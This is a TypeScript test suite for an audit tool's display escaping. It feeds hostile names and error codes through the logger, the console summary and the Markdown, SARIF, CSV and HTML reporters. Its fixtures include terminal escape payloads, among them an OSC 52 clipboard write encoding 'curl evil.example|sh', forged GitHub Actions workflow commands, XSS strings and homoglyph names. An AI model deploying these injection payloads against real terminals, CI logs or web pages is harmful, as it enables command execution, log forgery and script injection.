/**
 * Hostile text in what people read: names, messages and error codes from a tenant or a server
 * carrying terminal escape sequences (CSI, OSC 8 links, OSC 52 clipboard writes), line breaks,
 * GitHub Actions workflow commands (`::add-mask::`, `::error`, `##[…]`), bidi overrides, Markdown
 * links, mentions and references, and look-alike names. Nothing of it may act on a terminal, a CI
 * log, a job summary or code scanning; look-alike names are marked wherever they are shown.
 */
import { writeFileSync } from "node:fs";
import { mkdir, readFile, stat } from "node:fs/promises";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { Writable } from "node:stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { displayLines, displayText, escapeControls, nameConcerns, safeLines } from "../../src/base/display.js";
import { createLogger } from "../../src/cli/progress.js";
import { DEMO_SUBSCRIPTION_IDS, demoTenant } from "../../src/emulator/demo/index.js";
import type { TenantModel } from "../../src/emulator/model.js";
import type { Finding } from "../../src/engine/types.js";
import type { FindingsDocument } from "../../src/findings/types.js";
import { renderConsoleSummary } from "../../src/reporters/console.js";
import { renderCsv } from "../../src/reporters/csv.js";
import { parse } from "csv-parse/sync";
import { mdEscape, sarifText } from "../../src/reporters/escape.js";
import { capMarkdown, MARKDOWN_MAX_BYTES, renderMarkdown } from "../../src/reporters/markdown.js";
import { renderHtml } from "../../src/reporters/html.js";
import { renderSarif } from "../../src/reporters/sarif.js";
import { launchTestBrowser, type TestBrowser } from "../helpers/chromium.js";
import { makeDocument, summarize } from "../reporters/fixture.js";
import { auditArgs, type Lab, lab, oneSubscriptionDemo, runCli } from "./helpers.js";

const [S1] = DEMO_SUBSCRIPTION_IDS as [string];
const ESC = "\x1b";
const BEL = "\x07";
const CSI_CLEAR = `${ESC}[2J`;
const OSC8 = `${ESC}]8;;http://evil.example/${BEL}klicka${ESC}]8;;${BEL}`;
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=${BEL}`;
const MASK = "\n::add-mask::critical";
const FORGED = "::error file=x::forged";
const RLO = "\u202E";
/** Raw control characters other than the line feed, and bidi controls: none may reach stdout or stderr. */
const RAW = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u200E\u200F\u061C]/;
/** The lines the GitHub Actions runner would read as a workflow command (actions/runner ActionCommand). */
const commandLines = (text: string) => text.split(/\r?\n|\r/).filter((l) => l.trimStart().startsWith("::") || l.includes("##["));

describe("escapeControls and displayText: control and bidi characters escaped visibly, no workflow command", () => {
  it.each([
    ["CSI clear screen", CSI_CLEAR, "\\u001b[2J"],
    ["OSC 8 hyperlink", OSC8, "\\u001b]8;;http://evil.example/\\u0007klicka\\u001b]8;;\\u0007"],
    ["OSC 52 clipboard write", OSC52, "\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007"],
    ["a line break before ::add-mask::", `namn${MASK}`, "namn\\u000a::add-mask::critical"],
    ["CR LF before ::error", "x\r\n::error::y", "x\\u000d\\u000a::error::y"],
    ["a leading ::error", FORGED, "\\u003a:error file=x::forged"],
    ["spaces before ::warning (the runner trims them)", "   ::warning::w", "   \\u003a:warning::w"],
    ["a no-break space before :: (trimmed as whitespace too)", "\u00A0::notice::n", "\u00A0\\u003a:notice::n"],
    ["the v1 form ##[ anywhere", "vnet ##[add-mask]critical", "vnet #\\u0023[add-mask]critical"],
    ["8-bit CSI (C1)", "\u009B2J", "\\u009b2J"],
    ["DEL and NUL", "a\u007Fb\u0000c", "a\\u007fb\\u0000c"],
    ["tab and vertical tab", "a\tb\u000Bc", "a\\u0009b\\u000bc"],
    ["right-to-left override", `${RLO}gpj.exe`, "\\u202egpj.exe"],
    ["isolates, marks and the Arabic letter mark", "\u2066a\u2069\u200E\u200F\u061C", "\\u2066a\\u2069\\u200e\\u200f\\u061c"],
    ["line and paragraph separators", "a\u2028b\u2029c", "a\\u2028b\\u2029c"],
    ["Swedish, Arabic, Hebrew and emoji unchanged", "Åsa Öberg-Ängström مرحبا שלום 🔥🇸🇪", "Åsa Öberg-Ängström مرحبا שלום 🔥🇸🇪"],
    ["a colon pair inside a value unchanged", "fe80::1 and a::b", "fe80::1 and a::b"],
  ])("%s", (_name, input, expected) => {
    expect(displayText(input)).toBe(expected);
    expect(displayText(input)).not.toMatch(RAW);
    expect(commandLines(`prefix ${displayText(input)}`)).toEqual([]);
  });

  it("escapeControls escapes but leaves workflow text for the line check", () => {
    expect(escapeControls(`${FORGED}${ESC}`)).toBe("::error file=x::forged\\u001b");
  });

  it("displayLines keeps the line breaks between lines and escapes inside each", () => {
    expect(displayLines(`config.yaml: bad\n::error::x${ESC}[31m`)).toBe("config.yaml: bad\n\\u003a:error::x\\u001b[31m");
  });

  it("safeLines escapes a line starting with :: (after whitespace) and ##[ anywhere, and nothing else", () => {
    expect(safeLines("ok line\n  ::set-output name=a::b\nkeep a::b\nx ##[error]y")).toBe("ok line\n  \\u003a:set-output name=a::b\nkeep a::b\nx #\\u0023[error]y");
    expect(safeLines("Hemvist audit — Exempelkommun\n")).toBe("Hemvist audit — Exempelkommun\n");
  });
});

describe("nameConcerns: bidi overrides and mixed-script look-alikes", () => {
  it.each([
    ["Latin with a Cyrillic а (paypal)", "p\u0430ypal", ["mixed-script"]],
    ["a resource name with a Cyrillic о", "vnet-pr\u043Ed", ["mixed-script"]],
    ["Latin with a Greek omicron", "micr\u03BFsoft", ["mixed-script"]],
    ["a right-to-left override", `${RLO}gpj.exe`, ["bidi"]],
    ["both", `${RLO}p\u0430ypal`, ["bidi", "mixed-script"]],
    ["Swedish letters are Latin", "Förvaltningen för Säkerhet åäö ÅÄÖ", []],
    ["a name wholly in Cyrillic", "Москва", []],
    ["a name wholly in Greek", "Αθήνα", []],
    ["Cyrillic and Latin in separate words", "Москва-prod rg-Киев", []],
    ["Arabic and Latin (not a look-alike pair here)", "server مرحبا", []],
    ["digits and Latin", "sa01prod", []],
  ])("%s", (_name, name, expected) => {
    expect(nameConcerns(name)).toEqual(expected);
  });
});

describe("the logger (stderr): every message one display-safe line", () => {
  const capture = () => {
    let text = "";
    const stream = new Writable({
      write(chunk, _enc, done) {
        text += String(chunk);
        done();
      },
    }) as Writable & { isTTY?: boolean };
    return { stream, text: () => text };
  };

  it.each([
    ["info", (l: ReturnType<typeof createLogger>) => l.info(`read ${OSC8}`), "read \\u001b]8;;http://evil.example/\\u0007klicka\\u001b]8;;\\u0007\n"],
    ["warn", (l: ReturnType<typeof createLogger>) => l.warn(`exception x${MASK}`), "warning: exception x\\u000a::add-mask::critical\n"],
    ["debug", (l: ReturnType<typeof createLogger>) => l.debug(`not read: GET → 403 ${FORGED}`), "debug: not read: GET → 403 ::error file=x::forged\n"],
    ["info starting with ::", (l: ReturnType<typeof createLogger>) => l.info(FORGED), "\\u003a:error file=x::forged\n"],
    [
      "progress failed",
      (l: ReturnType<typeof createLogger>) => l.progress({ subscriptionId: `sub${CSI_CLEAR}`, collector: "storageAccounts", phase: "failed", message: `${OSC52}${MASK}` }),
      "[sub\\u001b[2J] storageAccounts could not be read: \\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007\\u000a::add-mask::critical\n",
    ],
  ])("%s", (_name, act, expected) => {
    const c = capture();
    const log = createLogger({ quiet: false, verbose: true, stream: c.stream });
    act(log);
    log.finish();
    expect(c.text()).toBe(expected);
  });
});

/** A finding of the fixture's shape with hostile text in its name, id, message and part. */
function hostileFinding(base: Finding, name: string, message: string): Finding {
  const id = `/subscriptions/${S1}/resourceGroups/rg-${RLO}test/providers/Microsoft.Network/virtualNetworks/${name}`;
  return { ...base, status: "fail", resourceId: id, resourceKey: id.toLowerCase(), resourceName: name, resourceGroup: `rg-${RLO}test`, message: { en: message, sv: message } };
}

function hostileDocument(): FindingsDocument {
  const doc = makeDocument();
  const base = doc.results.find((f) => f.status === "fail")!;
  const results = [
    hostileFinding(base, `vnet-${CSI_CLEAR}-p\u0430ypal`, `Location westeurope ${OSC8}${MASK} see https://evil.example/x @org/team #123 [x](https://evil.example) ![i](http://e.example/i.png) www.evil.example <b>x</b> a\\|b`),
    ...doc.results,
  ];
  return { ...doc, tenantName: `Ex\u0435mpelkommun${MASK}`, results, summary: summarize(results), coverage: [...doc.coverage, { ...doc.coverage[0]!, code: `${FORGED}${OSC52}` }] };
}

describe("the console summary (stdout)", () => {
  const text = renderConsoleSummary(hostileDocument(), { lang: "en", files: ["/tmp/out/::x"], extra: [`  ${FORGED}`] });

  it("holds no raw control or bidi character and no workflow command line", () => {
    expect(text).not.toMatch(RAW);
    expect(commandLines(text)).toEqual([]);
  });

  it("shows the hostile tenant name, code and message escaped, not dropped", () => {
    expect(text).toContain("Hemvist audit — Ex\u0435mpelkommun\\u000a::add-mask::critical (warning: name mixes Latin with Cyrillic or Greek letters (possible look-alike))\n");
    expect(text).toContain("\\u003a:error file=x::forged\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007");
    expect(text).toContain("…/virtualNetworks/vnet-\\u001b[2J-p\u0430ypal — Location westeurope \\u001b]8;;http://evil.example/\\u0007klicka");
    expect(text).toContain("  /tmp/out/::x");
    expect(text).toContain("  \\u003a:error file=x::forged");
  });

  it("in colour (a terminal), the only escape sequences are Hemvist's own SGR colours", () => {
    const coloured = renderConsoleSummary(hostileDocument(), { lang: "en", files: [], color: true });
    expect(coloured).toMatch(/\x1b\[31m/);
    expect(coloured.replace(/\x1b\[(?:0|1|3[1-6])m/g, "")).not.toMatch(RAW);
  });

  it("marks the look-alike and bidi names (en and sv)", () => {
    expect(text).toContain(
      " (warning: name contains bidirectional control characters that can reorder how it is shown; name mixes Latin with Cyrillic or Greek letters (possible look-alike))",
    );
    const sv = renderConsoleSummary(hostileDocument(), { lang: "sv", files: [] });
    expect(sv).toContain(" (varning: namnet innehåller dubbelriktade styrtecken som kan ändra hur det visas; namnet blandar latinska med kyrilliska eller grekiska bokstäver (möjlig förväxling))");
  });
});

describe("summary.md: nothing GitHub would link, mention or reference; raw HTML and pipes escaped", () => {
  it.each([
    ["a bare https URL", "see https://evil.example/x now", "see `https://evil.example/x` now"],
    ["a bare http URL", "http://evil.example", "`http://evil.example`"],
    ["www.", "visit www.evil.example.", "visit `www.evil.example.`"],
    ["mailto:", "mailto:a", "`mailto:a`"],
    ["www. after an underscore (GFM links it there too)", "_www.evil.example", "\\_`www.evil.example`"],
    ["a URL after an underscore or a parenthesis", "_https://evil.example (http://e.example)", "\\_`https://evil.example` (`http://e.example)`"],
    ["an e-mail address (redacted)", "contact ola.berg@exempelby.se", "contact \\[redacted\\]"],
    ["e-mail-like text the redaction misses", "x@y.c1", "`x@y.c1`"],
    ["an @org/team mention", "@exempelkommun/it-sakerhet please", "`@exempelkommun/it-sakerhet` please"],
    ["an @user mention", "ping @octocat.", "ping `@octocat.`"],
    ["an issue reference", "fixes #123", "fixes `#123`"],
    ["a GH- reference", "GH-42", "`GH-42`"],
    ["a cross-repository reference", "org/repo#7", "org/repo`#7`"],
    ["a Markdown link", "[x](https://evil.example)", "\\[x\\](`https://evil.example)`"],
    ["a Markdown image", "![i](http://e.example/i.png)", "\\!\\[i\\](`http://e.example/i.png)`"],
    ["a javascript: link", "[c](javascript:alert(4))", "\\[c\\](javascript:alert(4))"],
    ["raw HTML", "<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"],
    ["an autolink in angle brackets", "<https://evil.example>", "&lt;`https://evil.example`&gt;"],
    ["a pipe", "a|b", "a\\|b"],
    ["a backslash before a pipe", "a\\|b", "a\\\\\\|b"],
    ["emphasis and strike-through", "*b* _i_ ~~s~~", "\\*b\\* \\_i\\_ \\~\\~s\\~\\~"],
    ["a line break", "one\ntwo\r\nthree", "one two three"],
    ["an escape sequence", CSI_CLEAR, "\\\\u001b\\[2J"],
    ["a bidi override", `${RLO}gpj.exe`, "\\\\u202egpj.exe"],
  ])("%s", (_name, input, expected) => {
    expect(mdEscape(input)).toBe(expected);
  });

  it("the summary of a hostile document has no link, mention, raw HTML or control character from the tenant", () => {
    const md = renderMarkdown(hostileDocument(), { lang: "en" });
    expect(md).not.toMatch(RAW);
    expect(md).not.toMatch(/\]\(http/);
    expect(md).not.toContain("<b>");
    expect(md).toContain("`https://evil.example/x`");
    expect(md).toContain("`@org/team`");
    expect(md.split("\n")[0]).toBe(
      `# Hemvist – data residency: Ex\u0435mpelkommun ::add-mask::critical (${makeDocument().tenantId}) ⚠️ (warning: name mixes Latin with Cyrillic or Greek letters (possible look-alike))`,
    );
    expect(md).toContain("`#123`");
    // The look-alike name is marked in the resource cell.
    expect(md).toContain(" ⚠️ (warning: name contains bidirectional control characters that can reorder how it is shown; name mixes Latin with Cyrillic or Greek letters (possible look-alike))");
  });

  it(`is capped at ${MARKDOWN_MAX_BYTES} bytes with a pointer to the full report (long error codes)`, () => {
    const doc = makeDocument();
    // 5,000 unread scopes with error codes of 256 characters (the bound at collection): about 1.6 MB uncapped.
    const coverage = Array.from({ length: 5000 }, (_, i) => ({ ...doc.coverage[0]!, scope: `/subscriptions/${S1}/resourceGroups/rg-${i}`, code: `Code${i}-${"x".repeat(250)}` }));
    const md = renderMarkdown({ ...doc, coverage }, { lang: "en" });
    const bytes = Buffer.byteLength(md);
    expect(bytes).toBeLessThanOrEqual(1_048_576);
    expect(bytes).toBeGreaterThan(1_040_000);
    expect(md.endsWith("The full report: report.html and findings.json (and findings.csv) in the folder of summary.md.\n")).toBe(true);
    expect(md).toMatch(/> ⚠️ This summary is cut to \d+ of \d+ bytes \(GitHub's job summary limit is 1 MiB\)/);
    const total = Number(/of (\d+) bytes/.exec(md)![1]);
    expect(total).toBeGreaterThan(1_500_000);
    // Cut at the end of a line: the last table row before the note is whole.
    const lines = md.trimEnd().split("\n");
    expect(lines.at(-3)).toMatch(/\|$/);
  });

  it("capMarkdown leaves a summary within the limit unchanged, byte for byte", () => {
    expect(capMarkdown("# Title\n\nå\n", "sv", 100)).toBe("# Title\n\nå\n");
  });

  it("capMarkdown cuts at a line end (Swedish note) and stays within the limit", () => {
    const text = `${"rad med åäö\n".repeat(200)}`;
    const capped = capMarkdown(text, "sv", 1000);
    expect(Buffer.byteLength(capped)).toBeLessThanOrEqual(1000);
    expect(capped).toMatch(/^(rad med åäö\n)+\n> ⚠️ Sammanfattningen är avkortad till \d+ av 3000 byte/);
  });
});

describe("SARIF message text: tenant text can never form an embedded link (SARIF §3.11.6)", () => {
  it.each([
    ["a link", "[x](https://evil.example)", "\\[x\\](https://evil.example)"],
    ["an image", "![i](http://e.example/i.png)", "!\\[i\\](http://e.example/i.png)"],
    ["a link to a related location", "see [here](1)", "see \\[here\\](1)"],
    ["a literal backslash before a bracket", "a\\[b](c)", "a\\\\\\[b\\](c)"],
    ["a backslash elsewhere unchanged", "C:\\dir", "C:\\dir"],
    ["an escape sequence and a line break", `${CSI_CLEAR}${MASK}`, "\\u001b\\[2J\\u000a::add-mask::critical"],
  ])("%s", (_name, input, expected) => {
    expect(sarifText(input)).toBe(expected);
  });

  it("the hostile result's message has no unescaped bracket, no control character, and the name note", () => {
    const sarif = JSON.parse(renderSarif(hostileDocument(), { lang: "en" })) as { runs: { results: { message: { text: string } }[] }[] };
    const msg = sarif.runs[0]!.results.map((r) => r.message.text).find((t) => t.startsWith("Location westeurope"))!;
    expect(msg).not.toMatch(RAW);
    expect(msg).not.toMatch(/(^|[^\\])\[/);
    expect(msg).toContain("\\[x\\](https://evil.example)");
    expect(msg.endsWith(" (warning: name contains bidirectional control characters that can reorder how it is shown; name mixes Latin with Cyrillic or Greek letters (possible look-alike))")).toBe(true);
  });
});

describe("findings.csv: the nameWarning column", () => {
  it("notes a look-alike name in its own column and leaves plain names empty", () => {
    const rows = parse(renderCsv(hostileDocument(), { lang: "en" }), { bom: true }) as string[][];
    const col = rows[0]!.indexOf("nameWarning");
    expect(col).toBeGreaterThan(0);
    const hostile = rows.find((r) => r.some((c) => c.includes("vnet-")))!;
    expect(hostile[col]).toBe("warning: name contains bidirectional control characters that can reorder how it is shown; name mixes Latin with Cyrillic or Greek letters (possible look-alike)");
    const plain = rows.filter((r) => r[0] === "ENC-01");
    expect(plain.length).toBeGreaterThan(0);
    for (const r of plain) expect(r[col]).toBe("");
  });
});

describe("report.html in Chromium: a visible badge on look-alike names, its reasons in the title", () => {
  let browser: TestBrowser | undefined;
  beforeAll(async () => {
    browser = await launchTestBrowser("hemvist-hostile-text-");
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
  });

  it.each([
    ["en", "⚠ Look-alike name", "name contains bidirectional control characters that can reorder how it is shown; name mixes Latin with Cyrillic or Greek letters (possible look-alike)"],
    ["sv", "⚠ Förväxlingsbart namn", "namnet innehåller dubbelriktade styrtecken som kan ändra hur det visas; namnet blandar latinska med kyrilliska eller grekiska bokstäver (möjlig förväxling)"],
  ] as const)("%s: the row and the details of the hostile name carry the badge; plain names none", async (lang, text, title) => {
    const file = join(browser!.dir, `report-${lang}.html`);
    writeFileSync(file, renderHtml(hostileDocument(), { lang }));
    const page = await browser!.context.newPage();
    const errors: string[] = [];
    page.on("pageerror", (e) => errors.push(String(e)));
    await page.goto(pathToFileURL(file).href, { waitUntil: "load" });
    await page.waitForSelector("#findings-body tr.row");
    await page.fill("#f-q", "vnet-");
    await expect.poll(() => page.locator("#findings-body tr.row").count()).toBe(1);
    const row = page.locator("#findings-body tr.row").first();
    const badge = row.locator(".namewarn");
    expect(await badge.count()).toBe(1);
    expect(await badge.textContent()).toBe(text);
    expect(await badge.getAttribute("title")).toBe(title);
    await row.locator("button.expand").click();
    // In the details, each name with its own reason: the name mixes scripts, the resource group holds the override.
    const detailBadges = page.locator("#findings-body tr.detail .namewarn");
    await expect.poll(() => detailBadges.count()).toBe(2);
    expect(await detailBadges.nth(0).getAttribute("title")).toBe(title.split("; ")[1]);
    expect(await detailBadges.nth(1).getAttribute("title")).toBe(title.split("; ")[0]);
    await page.fill("#f-q", "kv-test-åäö");
    await expect.poll(() => page.locator("#findings-body").textContent()).not.toContain("vnet-");
    expect(await page.locator("#findings-body tr.row").first().textContent()).toContain("kv-test-åäö");
    expect(await page.locator("#findings-body .namewarn").count()).toBe(0);
    expect(errors).toEqual([]);
    await page.close();
  }, 60_000);
});

/** A resource group name with a CSI sequence, an OSC 52 clipboard write, a right-to-left override and a Cyrillic а. */
const HOSTILE_RG = `rg-${CSI_CLEAR}${OSC52}-${RLO}gpj-p\u0430ypal`;

/** The demo tenant with hostile names, and error codes and messages the server answers with. */
function hostileModel(): TenantModel {
  const m = demoTenant();
  m.displayName = `Exempelkommun${MASK} ${OSC8}`;
  for (const org of m.graph?.organization ?? []) org.displayName = `Exempelkommun${MASK} ${OSC8}`;
  const sub = m.subscriptions.find((s) => s.subscriptionId === S1)!;
  sub.displayName = `${FORGED} ${RLO}gpj.exe`;
  // A resource group tagged for security-protected information fails CLS-01 (critical), so it is among the console's top results.
  const rg = sub.resourceGroups[0]!;
  sub.resourceGroups.push({ ...rg, id: `/subscriptions/${S1}/resourceGroups/${HOSTILE_RG}`, name: HOSTILE_RG, tags: { konfidentialitet: "sakerhetsskydd" } });
  m.faults = [
    { path: `^/subscriptions/${S1}/providers/Microsoft\\.Storage/storageAccounts$`, status: 403, code: `AuthorizationFailed${MASK}`, message: `${FORGED} ${OSC52} ${CSI_CLEAR}` },
    { path: "^/v1\\.0/groups$", status: 403, code: `${FORGED}${ESC}]8;;http://evil.example/${BEL}`, message: `##[add-mask]critical\n::error file=y::forged too ${RLO}` },
  ];
  return m;
}

describe("end to end under GitHub Actions (GITHUB_ACTIONS=true, CI=true): hostile tenant and error text", () => {
  let l: Lab;
  let run: Awaited<ReturnType<typeof runCli>>;
  let out: string;
  let stepSummary: string;

  beforeAll(async () => {
    l = await lab(hostileModel());
    out = join(l.dir, "out");
    stepSummary = join(l.dir, "step-summary.md");
    run = await runCli(auditArgs(l.emulator.url, out, ["--verbose", "--lang", "en"]), { ...l.env, GITHUB_ACTIONS: "true", CI: "true", GITHUB_STEP_SUMMARY: stepSummary });
  }, 120_000);
  afterAll(async () => {
    await l?.emulator.close();
  });

  it("exits 3 (parts not read) without crashing", () => {
    expect(run.stderr).not.toMatch(/crashed|\n\s+at /);
    expect(run.code, run.stderr).toBe(3);
  });

  it.each(["stdout", "stderr"] as const)("%s holds no raw control or bidi character", (which) => {
    expect(run[which].length).toBeGreaterThan(100);
    const bad = [...run[which]].filter((ch) => RAW.test(ch)).map((ch) => ch.codePointAt(0)!.toString(16));
    expect(bad).toEqual([]);
  });

  it.each(["stdout", "stderr"] as const)("%s has no line the runner would read as a workflow command", (which) => {
    expect(commandLines(run[which])).toEqual([]);
  });

  it("stdout shows the hostile tenant name, resource name and error code escaped", () => {
    expect(run.stdout).toContain("Hemvist audit — Exempelkommun\\u000a::add-mask::critical \\u001b]8;;http://evil.example/\\u0007klicka");
    expect(run.stdout).toContain("  critical CLS-01  …/resourceGroups/rg-\\u001b[2J\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\\u0007-\\u202egpj-p\u0430ypal — ");
    expect(run.stdout).toContain("AuthorizationFailed\\u000a::add-mask::critical");
    expect(run.stdout).toContain("(warning: name contains bidirectional control characters");
  });

  it("stderr (--verbose) shows the error codes escaped in the debug lines", () => {
    const lines = run.stderr.split("\n");
    expect(lines).toContain(`debug: not read: GET /subscriptions/{s}/providers/Microsoft.Storage/storageAccounts → 403 AuthorizationFailed\\u000a::add-mask::critical (/subscriptions/${S1})`);
    expect(lines).toContain(`debug: not read: GET /groups → 403 ::error file=x::forged\\u001b]8;;http://evil.example/\\u0007 (/tenants/${demoTenant().tenantId}/groups)`);
  });

  it("the job summary is summary.md, with the code escaped and no raw control character", async () => {
    const md = await readFile(join(out, "summary.md"), "utf8");
    expect(await readFile(stepSummary, "utf8")).toBe(`${md}\n`);
    expect(md).not.toMatch(RAW);
    // Markdown turns a line break in a cell into a space; the escape sequence is escaped and its URL is in a code span.
    expect(md).toContain("| 403 | AuthorizationFailed ::add-mask::critical |");
    expect(md).toContain("| 403 | ::error file=x::forged\\\\u001b\\]8;;`http://evil.example/\\u0007` |");
  });

  it("SARIF messages hold no raw control character", async () => {
    const sarif = JSON.parse(await readFile(join(out, "findings.sarif"), "utf8")) as { runs: { results: { message: { text: string } }[] }[] };
    const texts = sarif.runs[0]!.results.map((r) => r.message.text);
    expect(texts.length).toBeGreaterThan(10);
    for (const t of texts) expect(t).not.toMatch(RAW);
  });
});

describe("GITHUB_STEP_SUMMARY that cannot be appended: a warning, the exit code unchanged", () => {
  let l: Lab;
  let baseline: Awaited<ReturnType<typeof runCli>>;
  beforeAll(async () => {
    // The demo's first subscription: a whole audit with failing results, in a third of the requests.
    l = await lab(oneSubscriptionDemo());
    baseline = await runCli(auditArgs(l.emulator.url, join(l.dir, "plain"), ["--quiet"]), l.env);
  }, 120_000);
  afterAll(async () => {
    await l?.emulator.close();
  });

  it("the fault-free run exits 1 (the demo tenant has failing results)", () => {
    expect(baseline.code, baseline.stderr).toBe(1);
  });

  it.each([
    ["a folder", async (dir: string) => {
      await mkdir(join(dir, "summary-folder"), { recursive: true });
      return join(dir, "summary-folder");
    }, "EISDIR: it is a folder"],
    ["a path in a missing folder", async (dir: string) => join(dir, "no-such-folder", "summary.md"), "ENOENT: its folder does not exist"],
    // Root writes anywhere, so a full disk stands in for a path it may not write: /dev/full answers ENOSPC.
    ["on a full disk (/dev/full)", async () => "/dev/full", "ENOSPC: the disk is full"],
  ])("GITHUB_STEP_SUMMARY is %s", async (_name, target, why) => {
    const path = await target(l.dir);
    const out = join(l.dir, `out-${why.slice(0, 6)}`);
    const run = await runCli(auditArgs(l.emulator.url, out, ["--quiet"]), { ...l.env, GITHUB_STEP_SUMMARY: path });
    expect(run.code, run.stderr).toBe(1);
    expect(run.stderr).toBe(
      `warning: GITHUB_STEP_SUMMARY (${path}): the job summary could not be appended (${why}); summary.md and the other reports are written, the exit code is unchanged.\n`,
    );
    for (const f of ["findings.json", "report.html", "findings.sarif", "summary.md", "findings.csv"]) expect((await stat(join(out, f))).size).toBeGreaterThan(0);
    const doc = JSON.parse(await readFile(join(out, "findings.json"), "utf8")) as FindingsDocument;
    expect(doc.exit.code).toBe(1);
  });
});
